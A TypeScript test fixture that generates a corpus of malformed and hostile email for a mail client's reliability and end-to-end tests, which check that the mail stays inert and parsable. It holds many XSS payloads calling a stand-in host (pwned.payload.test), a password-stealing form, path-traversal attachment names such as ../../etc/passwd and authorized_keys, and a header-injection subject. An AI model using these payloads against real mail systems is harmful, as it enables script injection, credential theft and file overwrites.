/**
 * Malformed and adversarial mail, generated in code (the same bytes on every run): broken charsets and transfer
 * encodings, broken multiparts, absurd nesting, huge headers, thousands of recipients, NULs, bare CR/LF, RFC 2231
 * and RFC 2047 edge cases, hostile attachment names, an oversize message and active HTML. The reliability suite
 * syncs it through Dovecot (test/reliability/hostile-mime.test.ts) and opens it in the console
 * (e2e/40-hostile-mail.spec.ts).
 */

export type HostileFamily =
  | 'charsets'
  | 'multipart'
  | 'nesting'
  | 'huge headers'
  | 'recipients'
  | 'nul bytes'
  | 'line endings'
  | 'rfc2231'
  | 'rfc2047'
  | 'attachment names'
  | 'oversize'
  | 'html';

export interface HostileMessage {
  family: HostileFamily;
  /** Short and unique, e.g. `nesting/depth-200`. */
  name: string;
  raw: Buffer;
  /**
   * Whether `parse_error` must be set: true where the message cannot be read whole (nesting refused, boundaries
   * that never match or are empty, a header block over mailparser's 1 MB), false where a careful parser reads it.
   */
  parseFails: boolean;
  /** Over the size limit the corpus was built for: stored as headers only with a skipped reason. */
  oversize?: boolean;
  /** Carries active HTML (or HTML-looking headers) that must stay inert in the console. */
  active?: boolean;
  /** Attachment file names as the message sends them (unsafe on purpose). */
  attachmentNames?: string[];
  /** Recipients in To + Cc, when the count is the point. */
  recipients?: number;
}

/** Host of every URL a payload would load or navigate to; the e2e spec fails on any request to it. */
export const PAYLOAD_HOST = 'pwned.payload.test';
/** What every script payload logs, alerts and stores in `window.__pwned`. */
export const PAYLOAD_MARK = 'PWNED';

export interface CorpusOptions {
  to: string;
  /** The size limit the sync runs with; the oversize message is built just over it. Omit to leave it out. */
  maxMessageBytes?: number;
}

const CRLF = '\r\n';

/** The whole corpus in the order it is seeded (UID order). */
export function hostileCorpus(options: CorpusOptions): HostileMessage[] {
  const m = new MessageFactory(options.to);
  return [
    ...charsets(m),
    ...multiparts(m),
    ...nesting(m),
    ...hugeHeaders(m),
    ...recipients(m),
    ...nulBytes(m),
    ...lineEndings(m),
    ...rfc2231(m),
    ...rfc2047(m),
    ...attachmentNames(m),
    ...(options.maxMessageBytes === undefined ? [] : [oversize(m, options.maxMessageBytes)]),
    ...html(m),
  ];
}

/** Well-formed mail to seed after the corpus: it must be stored in the same run. */
export function ordinaryMessages(to: string, count: number): Buffer[] {
  return Array.from({ length: count }, (_, i) =>
    Buffer.from(
      [
        'From: Ada Lovelace <ada@fabrikam.test>',
        `To: ${to}`,
        `Subject: Ordinary message ${i + 1}`,
        `Date: Mon, 6 Jan 2025 ${String(9 + (i % 10)).padStart(2, '0')}:00:00 +0000`,
        `Message-ID: <ordinary.${i + 1}@corpus.test>`,
        'MIME-Version: 1.0',
        'Content-Type: text/plain; charset=utf-8',
        '',
        `Plain and well formed, number ${i + 1}.`,
        '',
      ].join(CRLF),
    ),
  );
}

/** A JavaScript payload that leaves every trace the e2e spec looks for, tagged with where it came from. */
export function payload(tag: string): string {
  return `window.__pwned='${tag}';console.log('${PAYLOAD_MARK} ${tag}');alert('${PAYLOAD_MARK} ${tag}');fetch('https://${PAYLOAD_HOST}/js/${tag}');parent.__pwned='${tag}'`;
}

class MessageFactory {
  private count = 0;
  constructor(private readonly to: string) {}

  /** Standard headers (From, To and Subject replaceable), the extra header lines, then the body; CRLF unless `eol` says otherwise. */
  build(
    subject: string,
    extraHeaders: string[],
    body: string | Buffer,
    options: { eol?: string; from?: string; subjectLine?: string; toLine?: string } = {},
  ): Buffer {
    this.count += 1;
    const eol = options.eol ?? CRLF;
    const headers = [
      `From: ${options.from ?? 'Mallory <mallory@adversary.test>'}`,
      options.toLine ?? `To: ${this.to}`,
      options.subjectLine ?? `Subject: ${subject}`,
      `Date: Tue, 7 Jan 2025 10:${String(this.count % 60).padStart(2, '0')}:00 +0000`,
      `Message-ID: <hostile.${this.count}@corpus.test>`,
      'MIME-Version: 1.0',
      ...extraHeaders,
    ];
    const head = Buffer.from(headers.join(eol) + eol + eol, 'latin1');
    const tail = typeof body === 'string' ? Buffer.from(body.replace(/\n/g, eol), 'utf8') : body;
    return Buffer.concat([head, tail]);
  }
}

const latin1 = (text: string) => Buffer.from(text, 'latin1');

function charsets(m: MessageFactory): HostileMessage[] {
  const f = 'charsets' as const;
  return [
    {
      family: f,
      name: 'charsets/unknown-charset',
      parseFails: false,
      raw: m.build(
        'Unknown charset',
        ['Content-Type: text/plain; charset="x-klingon-42"', 'Content-Transfer-Encoding: 8bit'],
        Buffer.concat([latin1('Qapla\xe9! '), Buffer.from('ħeŀŀo\r\n')]),
      ),
    },
    {
      family: f,
      name: 'charsets/invalid-base64',
      parseFails: false,
      raw: m.build(
        'Invalid base64',
        ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'],
        '!!!@@@ this is not base64 ###\nSGVsbG8gd29ybGQ=====\n=====\nQUJD*&^%\n',
      ),
    },
    {
      family: f,
      name: 'charsets/invalid-quoted-printable',
      parseFails: false,
      raw: m.build(
        'Invalid quoted-printable',
        ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable'],
        'bad escape =ZZ and =4 and a cut multibyte =E2=82\nsoft break at the very end =\n=\n',
      ),
    },
    {
      family: f,
      name: 'charsets/undeclared-windows-1252',
      parseFails: false,
      raw: m.build(
        'Undeclared windows-1252',
        ['Content-Type: text/plain', 'Content-Transfer-Encoding: 8bit'],
        latin1('\x93Smart quotes\x94 cost \x80 5 \x96 caf\xe9\r\n'),
      ),
    },
    {
      family: f,
      name: 'charsets/invalid-utf8',
      parseFails: false,
      raw: m.build(
        'Declared utf-8, is not',
        ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'],
        Buffer.from([0x6f, 0x6b, 0x20, 0xc3, 0x28, 0xff, 0xfe, 0xe2, 0x82, 0x20, 0xf0, 0x9f, 0x0d, 0x0a]),
      ),
    },
    {
      family: f,
      name: 'charsets/unknown-transfer-encoding',
      parseFails: false,
      raw: m.build(
        'Unknown transfer encoding',
        ['Content-Type: text/html; charset=utf-16', 'Content-Transfer-Encoding: x-rot13-base99'],
        Buffer.from([0x3c, 0x00, 0x62, 0x00, 0x3e, 0x00, 0x68, 0x00, 0x69, 0x0d, 0x0a]),
      ),
    },
  ];
}

function multiparts(m: MessageFactory): HostileMessage[] {
  const f = 'multipart' as const;
  const part = (boundary: string, text: string) =>
    `--${boundary}\nContent-Type: text/plain; charset=utf-8\n\n${text}\n`;
  return [
    {
      family: f,
      name: 'multipart/missing-boundary-parameter',
      parseFails: true,
      raw: m.build(
        'Multipart without a boundary',
        ['Content-Type: multipart/mixed'],
        `${part('lost', 'first part')}${part('lost', 'second part')}--lost--\n`,
      ),
    },
    {
      family: f,
      name: 'multipart/boundary-never-appears',
      parseFails: true,
      raw: m.build(
        'Boundary never appears',
        ['Content-Type: multipart/mixed; boundary="declared"'],
        `${part('other', 'a part under another boundary')}--other--\n`,
      ),
    },
    {
      family: f,
      name: 'multipart/unterminated',
      parseFails: false,
      raw: m.build(
        'Unterminated multipart',
        ['Content-Type: multipart/mixed; boundary="open"'],
        `${part('open', 'the first part')}--open\nContent-Type: application/octet-stream; name="cut.bin"\nContent-Transfer-Encoding: base64\n\nAAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEy\nMzQ1Njc4OTo7`,
      ),
    },
    {
      family: f,
      name: 'multipart/boundary-inside-body',
      parseFails: false,
      raw: m.build(
        'Boundary text inside a body',
        ['Content-Type: multipart/alternative; boundary="frontier"'],
        `${part('frontier', 'this line mentions --frontier in the middle\n--frontierX is not a delimiter\n--frontier-- neither is this, it has text after it')}${part('frontier', 'second part')}--frontier--\n`,
      ),
    },
    {
      family: f,
      name: 'multipart/empty-boundary',
      parseFails: true,
      raw: m.build(
        'Empty boundary',
        ['Content-Type: multipart/mixed; boundary=""'],
        `--\nContent-Type: text/plain\n\nempty boundary part\n----\n`,
      ),
    },
    {
      family: f,
      name: 'multipart/nested-same-boundary',
      parseFails: false,
      raw: m.build(
        'Nested multipart reusing the boundary',
        ['Content-Type: multipart/mixed; boundary="same"'],
        `--same\nContent-Type: multipart/alternative; boundary="same"\n\n${part('same', 'inner')}--same--\n${part('same', 'outer')}--same--\n`,
      ),
    },
  ];
}

/** Multiparts (or embedded messages) nested `depth` levels, a text leaf at the bottom. */
function nested(depth: number, kind: 'multipart' | 'message'): string {
  let body = 'Content-Type: text/plain\n\nthe bottom\n';
  for (let level = depth; level >= 1; level--) {
    body =
      kind === 'multipart'
        ? `Content-Type: multipart/mixed; boundary="n${level}"\n\n--n${level}\n${body}--n${level}--\n`
        : `Content-Type: message/rfc822\n\nSubject: level ${level}\n${body}`;
  }
  return body;
}

function nesting(m: MessageFactory): HostileMessage[] {
  const f = 'nesting' as const;
  const message = (name: string, depth: number, kind: 'multipart' | 'message', parseFails: boolean) => {
    const tree = nested(depth, kind);
    const split = tree.indexOf('\n\n');
    return {
      family: f,
      name,
      parseFails,
      raw: m.build(`Nested ${depth} levels (${kind})`, [tree.slice(0, split)], tree.slice(split + 2)),
    };
  };
  return [
    message('nesting/multipart-20', 20, 'multipart', false),
    message('nesting/message-rfc822-20', 20, 'message', false),
    message('nesting/multipart-200', 200, 'multipart', true),
    message('nesting/message-rfc822-200', 200, 'message', true),
    message('nesting/multipart-5000', 5000, 'multipart', true),
  ];
}

function hugeHeaders(m: MessageFactory): HostileMessage[] {
  const f = 'huge headers' as const;
  const manyHeaders = Array.from({ length: 10_000 }, (_, i) => `X-Filler-${String(i).padStart(5, '0')}: value ${i}`);
  return [
    {
      family: f,
      name: 'huge headers/1-mb-header-line',
      parseFails: true,
      raw: m.build(
        'A 1 MB header line',
        [`X-Huge: ${'a'.repeat(1024 * 1024)}`, 'Content-Type: text/plain'],
        'The body after a 1 MB header line.\n',
      ),
    },
    {
      family: f,
      name: 'huge headers/10000-headers',
      parseFails: false,
      raw: m.build(
        'Ten thousand headers',
        [...manyHeaders, 'Content-Type: text/plain'],
        'The body after ten thousand headers.\n',
      ),
    },
    {
      family: f,
      name: 'huge headers/1-mb-folded-subject',
      parseFails: true,
      raw: m.build('', ['Content-Type: text/plain'], 'The body after a 1 MB folded subject.\n', {
        subjectLine: `Subject: start${'\r\n word'.repeat(150_000)}`,
      }),
    },
  ];
}

function recipients(m: MessageFactory): HostileMessage[] {
  const to = Array.from({ length: 5_000 }, (_, i) => `"Recipient ${i}" <r${i}@many.test>`);
  const cc = Array.from({ length: 2_000 }, (_, i) => `c${i}@many.test`);
  return [
    {
      family: 'recipients',
      name: 'recipients/7000-recipients',
      parseFails: false,
      recipients: 7_000,
      raw: m.build(
        'Seven thousand recipients',
        [`Cc: ${cc.join(',\r\n ')}`, 'Content-Type: text/plain'],
        'To everyone.\n',
        { toLine: `To: ${to.join(',\r\n ')}` },
      ),
    },
    {
      family: 'recipients',
      name: 'recipients/malformed-address-list',
      parseFails: false,
      raw: m.build(
        'Malformed addresses',
        ['Cc: ,,,<@>, "unterminated, a@b <c@d, @@@, <<>>, =?utf-8?Q?=00?= <nul@x>', 'Content-Type: text/plain'],
        'Odd addresses.\n',
      ),
    },
  ];
}

function nulBytes(m: MessageFactory): HostileMessage[] {
  const f = 'nul bytes' as const;
  const nul = '\u0000';
  return [
    {
      family: f,
      name: 'nul bytes/in-body',
      parseFails: false,
      raw: m.build(
        'NUL in the body',
        ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'],
        `before${nul}after${nul}${nul}\n`,
      ),
    },
    {
      family: f,
      name: 'nul bytes/in-headers',
      parseFails: false,
      raw: m.build(`NUL${nul} in the subject`, ['Content-Type: text/plain'], 'NULs are in the headers.\n', {
        from: `Null${nul} Sender <nul${nul}@adversary.test>`,
      }),
    },
    {
      // Dovecot turns a raw NUL into 0x80; encoded NULs reach the parser as NULs.
      family: f,
      name: 'nul bytes/encoded',
      parseFails: false,
      raw: m.build(
        '',
        ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'],
        `${Buffer.from(`encoded${nul}nul${nul}text`).toString('base64')}\n`,
        { subjectLine: 'Subject: =?utf-8?Q?encoded=00nul?=' },
      ),
    },
    {
      family: f,
      name: 'nul bytes/in-attachment-name-and-html',
      parseFails: false,
      attachmentNames: [`nul${nul}name.txt`],
      raw: m.build(
        'NUL in a file name and in HTML',
        ['Content-Type: multipart/mixed; boundary="nul"'],
        `--nul\nContent-Type: text/html; charset=utf-8\n\n<p>html${nul}body</p>\n--nul\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''nul%00name.txt\nContent-Transfer-Encoding: base64\n\nAAAAAA==\n--nul--\n`,
      ),
    },
  ];
}

function lineEndings(m: MessageFactory): HostileMessage[] {
  const f = 'line endings' as const;
  return [
    {
      family: f,
      name: 'line endings/bare-lf',
      parseFails: false,
      raw: m.build(
        'Bare LF throughout',
        ['Content-Type: multipart/alternative; boundary="lf"'],
        '--lf\nContent-Type: text/plain\n\nline one\nline two\n--lf--\n',
        { eol: '\n' },
      ),
    },
    {
      family: f,
      name: 'line endings/bare-cr',
      parseFails: false,
      raw: m.build('Bare CR throughout', ['Content-Type: text/plain'], 'old Mac line one\rline two\r', { eol: '\r' }),
    },
    {
      family: f,
      name: 'line endings/mixed',
      parseFails: false,
      raw: Buffer.concat([
        m.build(
          'Mixed line endings',
          ['Content-Type: text/plain', 'X-Mixed: cr\rfollows'],
          'crlf\r\nlf\ncr\rlf-cr\n\r',
        ),
        latin1('\n\n\r\r'),
      ]),
    },
    {
      family: f,
      name: 'line endings/no-body-no-newline',
      parseFails: false,
      raw: Buffer.from(
        'From: Mallory <mallory@adversary.test>\r\nSubject: Headers only, no final newline\r\nX-End: here',
      ),
    },
  ];
}

function attachment(
  boundary: string,
  dispositionParams: string,
  options: { type?: string; content?: string } = {},
): string {
  return `--${boundary}\nContent-Type: ${options.type ?? 'application/octet-stream'}\nContent-Disposition: attachment; ${dispositionParams}\nContent-Transfer-Encoding: base64\n\n${Buffer.from(options.content ?? 'attachment bytes').toString('base64')}\n`;
}

function withAttachments(m: MessageFactory, subject: string, parts: string[]): Buffer {
  return m.build(
    subject,
    ['Content-Type: multipart/mixed; boundary="att"'],
    `--att\nContent-Type: text/plain\n\n${subject}\n${parts.join('')}--att--\n`,
  );
}

function rfc2231(m: MessageFactory): HostileMessage[] {
  const f = 'rfc2231' as const;
  const longName = Array.from({ length: 500 }, (_, i) => `filename*${i}*=${i === 0 ? "utf-8''" : ''}%E2%82%AC`).join(
    ';\n ',
  );
  return [
    {
      family: f,
      name: 'rfc2231/continuations',
      parseFails: false,
      attachmentNames: ['€ rate report.pdf'],
      raw: withAttachments(m, 'RFC 2231 continuations', [
        attachment('att', "filename*0*=utf-8''%E2%82%AC%20rate;\n filename*1*=%20report.pdf"),
      ]),
    },
    {
      family: f,
      name: 'rfc2231/out-of-order',
      parseFails: false,
      attachmentNames: ['second-first.txt'],
      raw: withAttachments(m, 'RFC 2231 out of order', [
        attachment('att', 'filename*1="first.txt";\n filename*0="second-"'),
      ]),
    },
    {
      family: f,
      name: 'rfc2231/unknown-charset',
      parseFails: false,
      attachmentNames: ['AB.txt'],
      raw: withAttachments(m, 'RFC 2231 unknown charset', [attachment('att', "filename*=x-unknown'en'%41%42.txt")]),
    },
    {
      family: f,
      name: 'rfc2231/bad-percent-escapes',
      parseFails: false,
      attachmentNames: ['%ZZ%4.txt'],
      raw: withAttachments(m, 'RFC 2231 bad escapes', [attachment('att', "filename*=utf-8''%ZZ%4.txt")]),
    },
    {
      family: f,
      name: 'rfc2231/500-continuations',
      parseFails: false,
      attachmentNames: ['€'.repeat(500)],
      raw: withAttachments(m, 'RFC 2231 with 500 continuations', [attachment('att', longName)]),
    },
    {
      family: f,
      name: 'rfc2231/traversal-in-extended-value',
      parseFails: false,
      attachmentNames: ['../../evil.sh'],
      raw: withAttachments(m, 'RFC 2231 hiding a path', [
        attachment('att', 'filename="safe.txt"; filename*=utf-8\'\'..%2F..%2Fevil.sh'),
      ]),
    },
  ];
}

function rfc2047(m: MessageFactory): HostileMessage[] {
  const f = 'rfc2047' as const;
  const subject = (name: string, value: string, parseFails = false, extra: string[] = []): HostileMessage => ({
    family: f,
    name,
    parseFails,
    raw: m.build('', ['Content-Type: text/plain', ...extra], `${name}\n`, { subjectLine: `Subject: ${value}` }),
  });
  const overlong = `=?utf-8?B?${Buffer.from('ø'.repeat(10_000)).toString('base64')}?=`;
  const thousand = Array.from({ length: 1_000 }, (_, i) => `=?utf-8?Q?w${i}?=`).join('\r\n ');
  return [
    subject(
      'rfc2047/malformed',
      '=?utf-8?Q?unterminated =?utf-8?X?bad-encoding?= =??B?bm8tY2hhcnNldA==?= =?utf-8?B?!!!?=',
    ),
    subject('rfc2047/unknown-charset', '=?x-bogus?B?SGVsbG8=?= and =?utf-8*en?Q?with_language?='),
    subject('rfc2047/overlong-word', overlong),
    subject(
      'rfc2047/mixed-and-split-multibyte',
      '=?utf-8?B?w6k=?= plain =?iso-8859-1?Q?caf=E9?= =?utf-8?Q?=E2=82?= =?utf-8?Q?=AC?= end',
    ),
    subject('rfc2047/thousand-words', thousand),
    subject('rfc2047/header-injection', '=?utf-8?Q?line=0D=0ABcc:_victim@x.test=00end?=', false, [
      'Reply-To: =?utf-8?Q?Evil=2C_Twin?= <a@b.test>, =?utf-8?B?PHNjcmlwdD4=?= <c@d.test>',
    ]),
  ];
}

function attachmentNames(m: MessageFactory): HostileMessage[] {
  const f = 'attachment names' as const;
  const one = (name: string, sent: string, params: string, type?: string): HostileMessage => ({
    family: f,
    name,
    parseFails: false,
    attachmentNames: [sent],
    raw: withAttachments(m, `Attachment ${name}`, [attachment('att', params, { type, content: `payload of ${name}` })]),
  });
  return [
    one('attachment names/dot-dot-etc-passwd', '../../etc/passwd', 'filename="../../etc/passwd"'),
    one('attachment names/absolute-path', '/etc/shadow', 'filename="/etc/shadow"'),
    one(
      'attachment names/windows-path',
      'C:\\Windows\\System32\\drivers\\etc\\hosts',
      'filename="C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts"',
    ),
    one(
      'attachment names/unc-path',
      '\\\\server\\share\\payload.bat',
      "filename*=utf-8''%5C%5Cserver%5Cshare%5Cpayload.bat",
    ),
    one(
      'attachment names/control-characters',
      'report\u0001\u001b[31m\u007f.txt',
      "filename*=utf-8''report%01%1B%5B31m%7F.txt",
    ),
    one('attachment names/rtl-override', 'invoice\u202efdp.exe', "filename*=utf-8''invoice%E2%80%AEfdp.exe"),
    one('attachment names/dot-dot-only', '..', 'filename=".."'),
    one('attachment names/leading-dot', '.htaccess', 'filename=".htaccess"'),
    one('attachment names/long-name', `${'A'.repeat(5_000)}.exe`, `filename="${'A'.repeat(5_000)}.exe"`),
    one('attachment names/encoded-word-traversal', '../../evil.sh', 'filename="=?utf-8?B?Li4vLi4vZXZpbC5zaA==?="'),
    {
      family: f,
      name: 'attachment names/content-type-name-only',
      parseFails: false,
      attachmentNames: ['../../../root/.ssh/authorized_keys'],
      raw: m.build(
        'Attachment named by Content-Type only',
        ['Content-Type: multipart/mixed; boundary="att"'],
        `--att\nContent-Type: text/plain\n\nsee attached\n--att\nContent-Type: application/octet-stream; name="../../../root/.ssh/authorized_keys"\nContent-Transfer-Encoding: base64\n\nc3NoLXJzYSBBQUFB\n--att--\n`,
      ),
    },
  ];
}

function oversize(m: MessageFactory, maxMessageBytes: number): HostileMessage {
  const line = `${'o'.repeat(75)}\n`;
  const body = line.repeat(Math.ceil((maxMessageBytes + 64 * 1024) / line.length));
  return {
    family: 'oversize',
    name: 'oversize/over-the-limit',
    parseFails: false,
    oversize: true,
    raw: m.build('Over the size limit', ['Content-Type: text/plain'], body),
  };
}

function html(m: MessageFactory): HostileMessage[] {
  const f = 'html' as const;
  const url = (tag: string) => `https://${PAYLOAD_HOST}/${tag}`;
  const page = (name: string, body: string, head = ''): HostileMessage => ({
    family: f,
    name,
    parseFails: false,
    active: true,
    raw: m.build(
      `HTML ${name}`,
      ['Content-Type: text/html; charset=utf-8'],
      `<html><head>${head}</head><body><p>Visible text of ${name}.</p>\n${body}\n</body></html>\n`,
    ),
  });
  const svgScript = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload('data-svg')}"><script>${payload('data-svg-script')}</script></svg>`,
  ).toString('base64');
  const htmlDoc = Buffer.from(`<script>${payload('data-html')}</script>`).toString('base64');
  return [
    page(
      'html/script',
      [
        `<script>${payload('script')}</script>`,
        `<SCRIPT SRC="${url('script.js')}"></SCRIPT>`,
        `<scr<script>ipt>${payload('split-script')}</scr</script>ipt>`,
        `<svg><script>${payload('svg-script')}</script></svg>`,
        `<noscript><p title="</noscript><img src=x onerror=${payload('noscript')}>"></noscript>`,
        `<math><mtext><table><mglyph><style><img src=x onerror="${payload('mxss')}"></style></mglyph></table></mtext></math>`,
        `<template><script>${payload('template')}</script></template>`,
      ].join('\n'),
    ),
    page(
      'html/event-handlers',
      [
        `<img src="x" onerror="${payload('img-onerror')}">`,
        `<IMG SRC="x" ONERROR="${payload('img-onerror-upper')}">`,
        `<body onload="${payload('body-onload')}">`,
        `<div onmouseover="${payload('onmouseover')}" style="width:100%;height:50px">hover</div>`,
        `<details open ontoggle="${payload('ontoggle')}"><summary>s</summary></details>`,
        `<input autofocus onfocus="${payload('onfocus')}">`,
        `<video><source onerror="${payload('video-source')}"></video>`,
        `<marquee onstart="${payload('marquee')}">m</marquee>`,
      ].join('\n'),
    ),
    page(
      'html/javascript-urls',
      [
        `<a id="js" href="javascript:${payload('a-href')}">js link</a>`,
        `<a href="jav&#x09;ascript:${payload('a-href-tab')}">tab</a>`,
        `<a href="&#106;avascript:${payload('a-href-entity')}">entity</a>`,
        `<a href="  JaVaScRiPt:${payload('a-href-case')}">case</a>`,
        `<a href="vbscript:msgbox(1)">vb</a>`,
        `<iframe src="javascript:${payload('iframe-js')}"></iframe>`,
        `<img src="javascript:${payload('img-js')}">`,
      ].join('\n'),
    ),
    page(
      'html/forms',
      [
        `<form action="${url('steal')}" method="post"><input name="password" value="hunter2"><button id="submit">Send</button></form>`,
        `<button formaction="${url('formaction')}">formaction</button>`,
        `<input type="image" src="${url('input-image')}">`,
        `<form action="javascript:${payload('form-js')}"><input type="submit"></form>`,
      ].join('\n'),
    ),
    page(
      'html/meta-refresh',
      [
        `<meta http-equiv="refresh" content="0;url=${url('refresh-body')}">`,
        `<meta http-equiv="Refresh" content="1; URL=javascript:${payload('refresh-js')}">`,
        `<META HTTP-EQUIV="refresh" CONTENT="0; url=/audit">`,
      ].join('\n'),
      `<meta http-equiv="refresh" content="0;url=${url('refresh')}"><base href="${url('head-base/')}">`,
    ),
    page(
      'html/frames-and-plugins',
      [
        `<iframe src="${url('iframe')}"></iframe>`,
        `<iframe srcdoc="<script>${payload('srcdoc').replace(/'/g, '&#39;')}</script>"></iframe>`,
        `<object data="${url('object')}"></object>`,
        `<embed src="${url('embed')}">`,
        `<frameset><frame src="${url('frame')}"></frameset>`,
        `<applet code="x" codebase="${url('applet')}"></applet>`,
      ].join('\n'),
    ),
    page(
      'html/svg',
      [
        `<svg onload="${payload('svg-onload')}"><circle r="5"/></svg>`,
        `<svg><animate onbegin="${payload('svg-animate')}" attributeName="x" dur="1s"/></svg>`,
        `<svg><a xlink:href="javascript:${payload('svg-xlink')}"><text y="20">svg link</text></a></svg>`,
        `<svg><image href="${url('svg-image')}"/></svg>`,
      ].join('\n'),
    ),
    page(
      'html/css',
      [
        `<div style="width: expression(${payload('css-expression')})">expression</div>`,
        `<div style="background:url(javascript:${payload('css-js-url')})">js url</div>`,
        `<div style="background-image:url(${url('css-background')})">background</div>`,
        `<div style="-moz-binding:url(${url('binding.xml#x')}); behavior:url(${url('behavior.htc')})">binding</div>`,
        `<style>@import '${url('import.css')}'; body { background: url(${url('style-background')}); }</style>`,
        `<link rel="stylesheet" href="${url('link.css')}">`,
      ].join('\n'),
    ),
    page(
      'html/base-href',
      [
        `<base href="${url('base/')}">`,
        '<img id="relative" src="pixel.png">',
        '<a href="relative/link">relative link</a>',
      ].join('\n'),
    ),
    page(
      'html/data-urls',
      [
        `<img src="data:image/svg+xml;base64,${svgScript}">`,
        `<a href="data:text/html;base64,${htmlDoc}">data html link</a>`,
        `<iframe src="data:text/html;base64,${htmlDoc}"></iframe>`,
        `<object data="data:text/html;base64,${htmlDoc}"></object>`,
        `<embed src="data:image/svg+xml;base64,${svgScript}">`,
      ].join('\n'),
    ),
    {
      family: f,
      name: 'html/hostile-headers-and-text',
      parseFails: false,
      active: true,
      raw: m.build(
        '',
        ['Content-Type: text/plain; charset=utf-8'],
        `<script>${payload('text-body')}</script>\n<img src=x onerror="${payload('text-img')}">\n`,
        {
          subjectLine: `Subject: <img src=x onerror="${payload('subject')}"><script>${payload('subject-script')}</script>`,
          from: `"<script>${payload('from').replace(/"/g, '')}</script>" <mallory@adversary.test>`,
        },
      ),
    },
    {
      family: f,
      name: 'html/active-attachments',
      parseFails: false,
      active: true,
      attachmentNames: ['invoice.html', 'chart.svg'],
      raw: withAttachments(m, 'Active attachments', [
        attachment('att', 'filename="invoice.html"', {
          type: 'text/html',
          content: `<script>${payload('html-attachment')}</script>`,
        }),
        attachment('att', 'filename="chart.svg"', {
          type: 'image/svg+xml',
          content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload('svg-attachment')}"/>`,
        }),
      ]),
    },
  ];
}
